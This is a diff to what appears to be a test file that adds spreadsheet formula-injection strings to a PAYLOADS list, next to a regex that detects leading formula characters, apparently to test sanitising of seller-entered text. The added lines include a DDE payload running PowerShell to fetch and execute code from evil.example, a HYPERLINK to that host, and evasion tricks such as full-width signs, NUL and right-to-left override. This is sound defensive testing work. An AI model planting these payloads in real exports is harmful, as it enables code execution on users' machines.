@@ -51,6 +51,20 @@ const PAYLOADS = [
   'note;\t=1+1',
   '=1+1;=2+2;-3',
   "netsuke; \u200B=cmd|' /C calc'!A0",
+  // forge26: more of what a seller can write.
+  '"=1+1', // a leading quote
+  '""=1+1',
+  "'=1+1", // an apostrophe already there
+  ' \uFF1DHYPERLINK("http://evil.example")', // full-width after a space
+  '-', // a cell of only "-"
+  '+',
+  '=',
+  'sep=;\r\n=1+1', // a sep= line, then a formula
+  'ivory\r=1+1', // CR alone
+  "=cmd|'/C powershell IEX(wget evil.example)'!A0",
+  'ivory\u2028=1+1', // line separator
+  'x\u0000=1+1', // NUL
+  '\u202E1+1=', // right-to-left override before a reversed formula
 ];
 
 const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B]/u;
